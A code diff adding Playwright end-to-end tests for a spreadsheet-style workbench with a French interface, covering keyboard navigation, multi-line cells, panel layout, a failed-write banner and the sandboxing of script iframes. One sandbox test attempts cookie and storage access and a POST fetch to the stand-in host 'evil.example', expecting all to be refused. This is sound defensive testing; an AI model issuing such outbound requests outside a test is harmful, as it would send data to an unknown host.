@@ -1,4 +1,8 @@
+import { mkdtempSync, rmSync } from 'node:fs';
 import { request } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import Database from 'libsql';
 import type { Browser, FrameLocator, Page } from 'playwright-core';
 import { PortTakenError, type Workbench } from '../../src/local/workbench/start-workbench';
 import { openBrowser, openWorkbenchPage, seriousAxeFindings, startTestWorkbench } from '../support/browser';
@@ -183,6 +187,117 @@ describe('the script’s own pages', () => {
     await choose('Essai', 'Plus', 'Ouvrir la boîte');
     await page.frameLocator('dialog iframe').getByRole('button', { name: 'Fini' }).click();
     await page.getByRole('dialog', { name: 'Boîte d’essai' }).waitFor({ state: 'detached' });
+  });
+});
+
+describe('without a mouse', () => {
+  const held = () => page.evaluate(() => {
+    const element = document.activeElement;
+    return ['.menu-bar', '.clock', '.view-tabs', '.grid', '.sheet-bar', '.sidebar'].find((part) => element?.closest(part)) ?? element?.tagName ?? '';
+  });
+
+  it('F6 goes round the parts of the page and comes out of the panel, Maj+F6 goes back', async () => {
+    await cell('A1').click();
+    const seen: string[] = [];
+    for (let press = 0; press < 6; press += 1) {
+      await page.keyboard.press('F6');
+      // From within the panel the key goes through its page.
+      await page.waitForFunction((before) => (document.activeElement?.closest('.menu-bar,.clock,.view-tabs,.grid,.sheet-bar,.sidebar')?.className ?? '') !== before, seen.at(-1) ?? 'grid');
+      seen.push(await page.evaluate(() => document.activeElement?.closest('.menu-bar,.clock,.view-tabs,.grid,.sheet-bar,.sidebar')?.className ?? ''));
+    }
+    expect(seen).toEqual(['sheet-bar', 'sidebar', 'menu-bar', 'clock', 'view-tabs', 'grid']);
+    await page.keyboard.press('Shift+F6');
+    expect(await held()).toBe('.view-tabs');
+  });
+
+  it('Échap leaves the grid for the menus, and gives up an entry first', async () => {
+    await cell('A1').click();
+    await page.keyboard.type('perdu');
+    await page.keyboard.press('Escape');
+    expect(await held()).toBe('.grid');
+    await page.keyboard.press('Escape');
+    expect(await held()).toBe('.menu-bar');
+    await page.keyboard.press('ArrowRight');
+    await page.keyboard.press('ArrowDown');
+    await page.getByRole('menu', { name: 'Édition' }).waitFor();
+    await page.keyboard.press('Escape');
+  });
+});
+
+describe('what is drawn where', () => {
+  it('what is typed in a list that was opened replaces the choice', async () => {
+    await cell('B2').click();
+    await page.keyboard.press('Enter');
+    const field = page.getByRole('combobox', { name: 'Saisie en B2' });
+    expect(await field.inputValue()).not.toBe('');
+    await page.keyboard.type('Nou');
+    expect(await field.inputValue()).toBe('Nou');
+    await page.keyboard.press('Escape');
+  });
+
+  it('a text of several lines stays in its row', async () => {
+    await cell('D6').click();
+    const lines = Array.from({ length: 18 }, (_, at) => `ligne ${at + 1}`);
+    await page.keyboard.type('début');
+    for (const line of lines) {
+      await page.keyboard.press('Alt+Enter');
+      await page.keyboard.type(line);
+    }
+    await page.keyboard.press('Enter');
+    await cell('D6', 'ligne 18').waitFor();
+    await cell('D6').click();
+    await page.waitForFunction((whole) => document.querySelector<HTMLTextAreaElement>('.formula')?.value === whole, ['début', ...lines].join('\n'));
+    if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/lines.png` });
+    const [row, text] = await Promise.all([cell('D6').boundingBox(), cell('D6').locator('.text').boundingBox()]);
+    expect(text!.y).toBeGreaterThanOrEqual(row!.y);
+    expect(text!.y + text!.height).toBeLessThanOrEqual(row!.y + row!.height);
+    await page.keyboard.press('Delete');
+  });
+
+  it('the clock’s report leaves the panel to be seen', async () => {
+    await page.getByRole('button', { name: '+1 h' }).click();
+    await page.locator('.passage').waitFor();
+    if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/report.png` });
+    const [report, side] = await Promise.all([page.locator('.passage').boundingBox(), page.locator('.sidebar').boundingBox()]);
+    expect(report!.x + report!.width).toBeLessThanOrEqual(side!.x);
+    await page.locator('.passage').getByRole('button', { name: 'Fermer' }).click();
+  });
+});
+
+describe('a page of the script', () => {
+  it('has no origin, no session and no network', async () => {
+    const frame = page.frames().find((one) => one.url().endsWith('/frame'))!;
+    const found = await frame.evaluate(async (origin) => {
+      const failed = (act: () => unknown) => { try { act(); return 'possible'; } catch { return 'refusé'; } };
+      return [
+        self.origin, failed(() => document.cookie), failed(() => localStorage.length), failed(() => parent.document.title),
+        ...await Promise.all([`${origin}api/runtime/state`, 'https://evil.example/'].map((address) => fetch(address, { method: 'POST', mode: 'no-cors' }).then(() => 'possible', () => 'refusé'))),
+      ];
+    }, workbench.origin);
+    expect(found).toEqual(['null', 'refusé', 'refusé', 'refusé', 'refusé', 'refusé']);
+  });
+});
+
+describe('a write that fails', () => {
+  it('is said on the page since when, for as long as it lasts', async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'unsaved-'));
+    const own = await startTestWorkbench({ project: toyProject, stateFile: join(folder, 'state.db') });
+    const window = await openWorkbenchPage(browser, own);
+    const holder = new Database(join(folder, 'state.db'));
+    holder.exec('BEGIN IMMEDIATE');
+    await cell('A1', undefined, window).click();
+    await window.keyboard.type('gardé');
+    await window.keyboard.press('Enter');
+    const banner = window.getByRole('alert').filter({ hasText: /Rien n’est enregistré depuis \d\d:\d\d\u00a0: un autre programme tient le fichier\./ });
+    await banner.waitFor();
+    if (process.env.SHOTS) await window.screenshot({ path: `${process.env.SHOTS}/unsaved.png` });
+    expect(await seriousAxeFindings(window)).toEqual([]);
+    holder.exec('ROLLBACK');
+    holder.close();
+    await banner.waitFor({ state: 'detached' });
+    await window.context().close();
+    await own.close();
+    rmSync(folder, { recursive: true });
   });
 });
 
